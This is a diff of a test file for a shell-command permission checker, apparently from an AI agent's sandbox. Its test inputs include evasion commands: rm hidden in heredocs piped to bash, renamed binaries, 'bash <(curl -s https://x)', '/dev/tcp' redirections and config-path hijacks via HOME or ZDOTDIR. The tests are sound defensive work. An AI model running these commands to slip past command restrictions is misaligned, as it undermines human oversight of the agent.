@@ -15,9 +15,16 @@ import {
 
 const RM_DENIED: CommandRuleSet = { rules: [{ prefix: ['rm'], decision: 'deny' }], otherwise: 'allow' };
 const GIT_STATUS_ALLOWED: CommandRuleSet = { rules: [{ prefix: ['git', 'status'], decision: 'allow' }] };
+const ONLY_GIT_STATUS: CommandRuleSet = { rules: [{ prefix: ['git', 'status'], decision: 'allow' }], otherwise: 'deny' };
 
 async function decision(command: string, rules: CommandRuleSet = RM_DENIED): Promise<RuleDecision> {
   return (await decideCommand(command, rules)).decision;
+}
+
+/** The decision and what decided it: the rule of the first segment as strict as the command. */
+async function decided(command: string, rules: CommandRuleSet = RM_DENIED): Promise<[RuleDecision, string | undefined]> {
+  const result = await decideCommand(command, rules);
+  return [result.decision, result.segments.find((segment) => segment.decision === result.decision)?.rule];
 }
 
 describe('every way of running rm is denied by `rm: deny`', () => {
@@ -148,6 +155,9 @@ describe('every way of running rm is denied by `rm: deny`', () => {
     ['f(){ rm x; }; f'],
     ['function f { rm x; }'],
     ["bash <<< 'rm x'"],
+    ['echo ls | bash <<< "rm x"'],
+    ['echo ls | bash <<EOF\nrm x\nEOF'],
+    ['echo ls | sh -s <<< "rm x"'],
     ['bash <<EOF\nrm x\nEOF'],
     ["bash <<'EOF'\nrm x\nEOF"],
     ['bash <<-EOF\n\trm x\n\tEOF'],
@@ -195,6 +205,10 @@ describe('what cannot be known before it runs is at least ask', () => {
     ['BASH_CMDS[ls]=/bin/rm; ls x', 'ask'],
     ['enable -f ./evil.so ls', 'ask'],
     ['ssh host', 'ask'],
+    // Script files the rules cannot see into (more below).
+    ['sh script.sh', 'ask'],
+    ['sh < script.sh', 'ask'],
+    ['source ./env.sh', 'ask'],
     ['$SHELL -c "rm x"', 'ask'],
     ['. <(curl -s https://x)', 'ask'],
     ['bash <(curl -s https://x)', 'ask'],
@@ -215,6 +229,10 @@ describe('what cannot be known before it runs is at least ask', () => {
     ['git -c include.path=/tmp/x log', 'ask'],
     ['git -c alias.p=push p', 'ask'],
     ["x='a[$(rm y)]'; echo $((x))", 'ask'],
+    // Startup files and git config come from HOME, XDG_CONFIG_HOME and ZDOTDIR.
+    ['HOME=. git status', 'ask'],
+    ['export XDG_CONFIG_HOME=.; git log', 'ask'],
+    ['ZDOTDIR=. zsh -c ls', 'ask'],
   ])('%j → %s', async (command, expected) => {
     expect(await decision(command)).toBe(expected);
   });
@@ -237,14 +255,11 @@ describe('commands that do not run rm stay allowed', () => {
     ["cat <<'EOF' > script.sh\nrm -rf x\nEOF"],
     ['n=$(cat f); echo $((n+1)) > f'],
     ['cd /tmp && ls'],
-    ['sh script.sh'],
-    ['sh < script.sh'],
     ['command -v rm'],
     ['find . -name "*.rm"'],
     ['local x=1'],
     ['constructor x'],
     ['toString'],
-    ['source ./env.sh'],
     ['at -l'],
     ['sudo -l'],
     ['ssh -N -L 8080:localhost:80 host'],
@@ -441,6 +456,328 @@ describe('parsing', () => {
   });
 });
 
+describe('a script file a shell runs is at least ask: the rules cannot see into it', () => {
+  const unseen = (file: string) => `runs the script file ${file}, which the rules cannot see into`;
+
+  test.each([
+    ['sh del.sh', 'del.sh'],
+    ['bash ./x.sh', './x.sh'],
+    ['. ./src.sh', './src.sh'],
+    ['source ./src.sh', './src.sh'],
+    ['source ./src.sh arg', './src.sh'],
+    ['. src.sh', 'src.sh'],
+    ['dash del.sh', 'del.sh'],
+    ['zsh del.zsh', 'del.zsh'],
+    ['ksh del.sh', 'del.sh'],
+    ['mksh del.sh', 'del.sh'],
+    ['ash del.sh', 'del.sh'],
+    ['yash del.sh', 'del.sh'],
+    ['posh del.sh', 'del.sh'],
+    ['rbash del.sh', 'del.sh'],
+    ['fish del.fish', 'del.fish'],
+    ['busybox sh del.sh', 'del.sh'],
+    ['/bin/sh del.sh', 'del.sh'],
+    ['bash -e -x del.sh', 'del.sh'],
+    ['bash -o pipefail del.sh', 'del.sh'],
+    ['bash --norc del.sh', 'del.sh'],
+    ['bash -- del.sh', 'del.sh'],
+    ['sh - del.sh', 'del.sh'],
+    ["echo 'rm v' > del.sh && sh del.sh", 'del.sh'],
+    ["echo 'rm v' > src.sh && . ./src.sh", './src.sh'],
+    ['sudo bash del.sh', 'del.sh'],
+    ['env A=1 bash del.sh', 'del.sh'],
+    ['timeout 5 sh del.sh', 'del.sh'],
+    ['exec -a x bash del.sh', 'del.sh'],
+    ['command . ./src.sh', './src.sh'],
+    ['builtin source ./src.sh', './src.sh'],
+    ["sh -c 'sh del.sh'", 'del.sh'],
+    ['eval ". ./src.sh"', './src.sh'],
+    ['cd sub && bash run.sh', 'run.sh'],
+    // A script read from a file on stdin is a script file all the same.
+    ['bash < del.sh', 'del.sh'],
+    ['sh -s < del.sh', 'del.sh'],
+    ['sh -s a b < del.sh', 'del.sh'],
+    // The tree hangs a pipeline's last redirects on the pipeline: they are the last command's.
+    ['cat x | bash < del.sh', 'del.sh'],
+    ['echo ls | bash < del.sh', 'del.sh'],
+    ['echo ls | bash 2>/dev/null < del.sh', 'del.sh'],
+    ['sudo -s < del.sh', 'del.sh'],
+    ['ssh host < del.sh', 'del.sh'],
+    ['at now < job.sh', 'job.sh'],
+    ['at -f job.sh now', 'job.sh'],
+    // An interactive bash runs its --rcfile first.
+    ["bash --rcfile evil.sh -i <<< 'ls'", 'evil.sh'],
+    ['bash --init-file evil.sh', 'evil.sh'],
+  ])('%j → ask (%s)', async (command, file) => {
+    expect(await decided(command)).toEqual(['ask', unseen(file)]);
+  });
+
+  test.each([
+    ['sh $f'],
+    ['source "$f"'],
+    ['bash < $f'],
+    ['bash < "$dir/x.sh"'],
+    ['at -f $job now'],
+    ['find . -name "*.sh" -exec bash {} \\;'],
+  ])('a script file only known at run time: %j → ask', async (command) => {
+    expect(await decision(command)).toBe('ask');
+  });
+
+  test.each([
+    ["sh -c 'ls'"],
+    ["bash -c 'ls' del.sh"],
+    ["bash -c 'git status' > /dev/null"],
+    ['sh -s <<EOF\nls\nEOF'],
+    ["bash <<'EOF'\nls -la\nEOF"],
+    ["bash <<< 'ls'"],
+    ['echo ls | sh'],
+    ["printf 'ls' | bash -s"],
+    ['bash < /dev/null'],
+    ['sh -n -c true'],
+    ['zap del.sh'],
+  ])('a script the parser reads stays as it is: %j → allow', async (command) => {
+    expect(await decision(command)).toBe('allow');
+  });
+
+  test('a script file holding rm under a deny is ask, not allow; what the parser reads is still denied', async () => {
+    expect(await decision('sh del.sh && rm x')).toBe('deny');
+    expect(await decision('sh -s <<EOF\nrm x\nEOF')).toBe('deny');
+    expect(await decision('bash del.sh', { rules: [], otherwise: 'deny' })).toBe('deny');
+  });
+
+  test('a rule whose prefix reaches the script file names it; a rule for the shell alone does not', async () => {
+    const rules: CommandRuleSet = {
+      rules: [
+        { prefix: ['bash', './build.sh'], decision: 'allow' },
+        { prefix: ['source', '.venv/bin/activate'], decision: 'allow' },
+        { prefix: ['sh'], decision: 'allow' },
+      ],
+      otherwise: 'deny',
+    };
+    expect(await decided('bash ./build.sh --fast', rules)).toEqual(['allow', 'bash ./build.sh: allow']);
+    expect(await decision('source .venv/bin/activate && bash ./build.sh', rules)).toBe('allow');
+    expect(await decided('bash ./other.sh', rules)).toEqual(['deny', 'otherwise']);
+    expect(await decided('sh ./build.sh', rules)).toEqual(['ask', unseen('./build.sh')]);
+    expect(await decided('bash -x ./build.sh', rules)).toEqual(['deny', 'otherwise']);
+    // On stdin the file is no word of the command: no rule can name it.
+    expect(await decided('bash < ./build.sh', { rules: [{ prefix: ['bash'], decision: 'allow' }] })).toEqual(['ask', unseen('./build.sh')]);
+  });
+
+  test('the segment says which file, and where it is in argv', async () => {
+    expect((await parseCommand('bash -e del.sh x')).segments).toEqual([
+      { text: 'bash -e del.sh x', argv: ['bash', '-e', 'del.sh', 'x'], program: 'bash', scriptFile: 'del.sh', scriptFileArg: 2 },
+    ]);
+    expect((await parseCommand('sh < del.sh')).segments).toEqual([{ text: 'sh', argv: ['sh'], program: 'sh', scriptFile: 'del.sh' }]);
+    expect((await decideCommand('. ./src.sh', RM_DENIED)).segments).toEqual([
+      { text: '. ./src.sh', argv: ['.', './src.sh'], program: '.', scriptFile: './src.sh', decision: 'ask', rule: unseen('./src.sh') },
+    ]);
+  });
+});
+
+describe('a program run by a path the workspace controls is at least ask', () => {
+  const unknown = (path: string) => `runs ${path}, a program of the workspace, not a known one`;
+
+  test.each([
+    ['./zap victim', './zap'],
+    ['cp /bin/rm ./zap && ./zap victim', './zap'],
+    ['ln -s /bin/rm ./del && ./del victim', './del'],
+    ['cp /bin/rm zap && ./zap victim', './zap'],
+    ['x/y', 'x/y'],
+    ['bin/tool --flag', 'bin/tool'],
+    ['../x', '../x'],
+    ['/tmp/x', '/tmp/x'],
+    ['/tmp/bin/ls', '/tmp/bin/ls'],
+    ['~/bin/x', '~/bin/x'],
+    ['/usr/../bin/ls', '/usr/../bin/ls'],
+    ['/usr/lib/x', '/usr/lib/x'],
+    ['"./zap" victim', './zap'],
+    ['exec ./zap victim', './zap'],
+    ['timeout 5 ./zap victim', './zap'],
+    ['sudo ./zap victim', './zap'],
+    ['nohup ./zap &', './zap'],
+    ['xargs ./zap', './zap'],
+    ['find . -exec ./zap {} \\;', './zap'],
+    ["sh -c './zap victim'", './zap'],
+    ['cd sub && ./build.sh', './build.sh'],
+    // A wrapper by a path runs whatever is there, not what its name says.
+    ['./timeout 5 ls', './timeout'],
+    ["./bash -c 'ls'", './bash'],
+  ])('%j → ask (%s)', async (command, path) => {
+    expect(await decided(command)).toEqual(['ask', unknown(path)]);
+  });
+
+  test.each([
+    ['zap victim'],
+    ['/bin/ls'],
+    ['/usr/bin/env ls'],
+    ['/usr/local/bin/x'],
+    ['/usr/sbin/x'],
+    ['/sbin/x'],
+    ['/opt/homebrew/bin/x'],
+    ['make build'],
+  ])('a system program or a bare name is judged as before: %j → allow', async (command) => {
+    expect(await decision(command)).toBe('allow');
+  });
+
+  test('computed paths are ask already; a deny naming the program still denies', async () => {
+    expect(await decision('$HOME/x')).toBe('ask');
+    expect(await decision('"$PWD"/zap victim')).toBe('ask');
+    expect(await decided('./rm x')).toEqual(['deny', 'rm: deny']);
+    expect(await decision('./zap', { rules: [], otherwise: 'deny' })).toBe('deny');
+  });
+
+  test('a rule naming exactly that path decides it', async () => {
+    const gradlew: CommandRuleSet = { rules: [{ prefix: ['./gradlew'], decision: 'allow' }], otherwise: 'allow' };
+    expect(await decided('./gradlew build', gradlew)).toEqual(['allow', './gradlew: allow']);
+    expect(await decided('gradlew/../gradlew build', gradlew)).toEqual(['ask', unknown('gradlew/../gradlew')]);
+    expect(await decided('./gradlew2 build', gradlew)).toEqual(['ask', unknown('./gradlew2')]);
+    expect(await decision('timeout 60 ./gradlew build', gradlew)).toBe('allow');
+    // The rule must match, not just name the path: `./gradlew publish` is no `./gradlew build`.
+    const build: CommandRuleSet = { rules: [{ prefix: ['./gradlew', 'build'], decision: 'allow' }], otherwise: 'allow' };
+    expect(await decision('./gradlew build --info', build)).toBe('allow');
+    expect(await decided('./gradlew publish', build)).toEqual(['ask', unknown('./gradlew')]);
+    // A bare-name allow is no allow for a path: it would be any program called gradlew.
+    expect(await decided('./gradlew build', { rules: [{ prefix: ['gradlew'], decision: 'allow' }], otherwise: 'allow' })).toEqual(['ask', unknown('./gradlew')]);
+    expect(await decision('./zap', { rules: [{ prefix: ['./zap'], decision: 'deny' }], otherwise: 'allow' })).toBe('deny');
+  });
+});
+
+describe('a redirection that writes a file is judged as a command no rule names', () => {
+  test.each([
+    ['git status > X', 'X'],
+    ['git status >> X', 'X'],
+    ['git status 2> X', 'X'],
+    ['git status 2>> X', 'X'],
+    ['git status &> X', 'X'],
+    ['git status &>> X', 'X'],
+    ['git status >| X', 'X'],
+    ['git status >& X', 'X'],
+    ['git status 1>&X', 'X'],
+    ['git status > 1', '1'],
+    ["git status > 'my file'", 'my file'],
+    ['git status >"a b"', 'a b'],
+    ['git status > X 2>&1', 'X'],
+    ['git status 2>&1 > X', 'X'],
+    ['git status 2>/dev/null > X', 'X'],
+    ['> X git status', 'X'],
+    ['git status; : > X', ':'],
+    ['> X', 'X'],
+    ['exec > X', 'exec'],
+    ['exec 3> X', 'exec'],
+    ['{ git status; } > X', 'X'],
+    ['( git status ) > X', 'X'],
+    ['(git status; git status) >> X', 'X'],
+    ['for i in 1 2; do git status; done > X', 'X'],
+    ['while git status; do git status; done > X', 'X'],
+    ['if git status; then git status; fi 2> X', 'X'],
+    ['case a in a) git status;; esac > X', 'X'],
+    ['f() { git status; } > X', 'X'],
+    ['git status | git status > X', 'X'],
+    ['git status && git status > X', 'X'],
+    ["sh -c 'git status > X'", 'X'],
+    ['git status -- "$(git status > X)"', 'X'],
+    ['[ a > X ]', 'X'],
+    ['[ a >> X ]', 'X'],
+    ['[ -n a ] && [ a > X ]', 'X'],
+    ['git status > /dev/tcp/example.com/80', '/dev/tcp/example.com/80'],
+    ['git status > /dev/stdout.txt', '/dev/stdout.txt'],
+    ['git status > /dev/fd/3', '/dev/fd/3'],
+  ])('under otherwise: deny, %j is denied (writes %s)', async (command, target) => {
+    const [result, rule] = await decided(command, ONLY_GIT_STATUS);
+    expect(result).toBe('deny');
+    // `:` and `exec` are commands no rule names: they are denied before the write is.
+    expect(rule).toBe(target === ':' || target === 'exec' ? 'otherwise' : `writes ${target}`);
+  });
+
+  test.each([
+    ['git status > /dev/null'],
+    ['git status 2> /dev/null'],
+    ['git status &> /dev/null'],
+    ['git status >> /dev/null 2>&1'],
+    ['git status > /dev/stdout'],
+    ['git status 2> /dev/stderr'],
+    ['git status 2>&1'],
+    ['git status >&2'],
+    ['git status 1>&2'],
+    ['git status 3>&1 1>&2 2>&3'],
+    ['git status >&-'],
+    ['git status 2>&-'],
+    ['git status 2>&1-'],
+    ['git status < X'],
+    ['git status 0< X'],
+    ['git status <<< x'],
+    ["git status <<'EOF'\nx\nEOF"],
+    ['git status > >(git status)'],
+    ['git status 2>&1 | git status'],
+    ['[[ a > b ]] && git status'],
+    ['(( 2 > 1 )) && git status'],
+  ])('no file is written: %j stays allowed under otherwise: deny', async (command) => {
+    expect(await decision(command, ONLY_GIT_STATUS)).toBe('allow');
+  });
+
+  test.each([
+    ['echo hi > out.txt'],
+    ['echo hi >> log'],
+    ['make &> build.log'],
+    ['npm test 2> err.txt'],
+    ['git status > /dev/null'],
+    ['ls 2>&1 | grep x'],
+    ['{ ls; pwd; } > out'],
+    ['exec > out'],
+    ["cat <<'EOF' > notes.md\nhi\nEOF"],
+  ])('under otherwise: allow a write changes nothing: %j → allow', async (command) => {
+    expect(await decision(command)).toBe('allow');
+  });
+
+  test.each([
+    ['echo hi > $f', '$f'],
+    ['echo hi > "$f"', '"$f"'],
+    ['echo hi 2>> ~/"$x"', '~/"$x"'],
+    ['echo hi > *.txt', '*.txt'],
+    ['echo hi > $(echo a b)', '$(echo a b)'],
+    ['echo hi >& $f', '$f'],
+  ])('a file only known at run time is at least ask: %j', async (command, target) => {
+    expect(await decided(command)).toEqual(['ask', `writes ${target}, a file only known at run time`]);
+    expect(await decided(command, ONLY_GIT_STATUS)).toEqual(['deny', 'otherwise']);
+  });
+
+  test('under otherwise: ask (or left out) a write asks', async () => {
+    expect(await decided('git status > X', GIT_STATUS_ALLOWED)).toEqual(['ask', 'writes X']);
+    expect(await decided('git status > X', { ...GIT_STATUS_ALLOWED, otherwise: 'ask' })).toEqual(['ask', 'writes X']);
+    expect(await decision('git status > /dev/null', GIT_STATUS_ALLOWED)).toBe('allow');
+  });
+
+  test('a write is a segment of its own: the statement, the file, and what decided', async () => {
+    const result = await decideCommand('git status --short > out.txt 2>&1', ONLY_GIT_STATUS);
+    expect(result).toEqual({
+      decision: 'deny',
+      segments: [
+        { text: 'git status --short', argv: ['git', 'status', '--short'], program: 'git', decision: 'allow', rule: 'git status: allow' },
+        { text: 'git status --short > out.txt 2>&1', argv: [], program: '', writes: 'out.txt', decision: 'deny', rule: 'writes out.txt' },
+      ],
+    });
+    // Plain JSON: it is recorded in workflow history as it is.
+    expect(JSON.parse(JSON.stringify(result))).toEqual(result);
+    const nested = await parseCommand("sudo sh -c 'git status > $f'");
+    expect(nested.segments[1]).toEqual({
+      text: 'git status > $f',
+      argv: [],
+      program: '',
+      computed: 'the file it writes is only known at run time',
+      via: ['sudo', 'sh'],
+      wrappers: [
+        ['sudo', 'sh', '-c', 'git status > $f'],
+        ['sh', '-c', 'git status > $f'],
+      ],
+      writes: '$f',
+    });
+  });
+
+  test('writes are no programs run', async () => {
+    expect(await programsRun('git status > out; { ls; } 2> err; > empty')).toEqual(['git', 'ls']);
+  });
+});
+
 describe('rule set schema', () => {
   test('takes the object form as written', () => {
     const input = { rules: [{ prefix: ['git', 'push'], decision: 'deny', match: ['git push origin'], notMatch: ['git pull'] }], otherwise: 'allow' };
@@ -479,7 +816,7 @@ describe('rule set schema', () => {
     [{ 'git * push': 'deny' }, 'git * push', /is a glob/],
     [{ "echo 'a b'": 'allow' }, "echo 'a b'", /plain words/],
     [{ 'ls; rm': 'allow' }, 'ls; rm', /plain words/],
-    [{ git: 'maybe' }, 'git', /expected one of/],
+    [{ git: 'maybe' }, 'git', /"maybe" is not a decision: use allow, ask or deny/],
   ])('a bad shorthand %j is an issue at its key', (input, key, message) => {
     const result = commandRuleSetSchema.safeParse(input);
     expect(result.success).toBe(false);
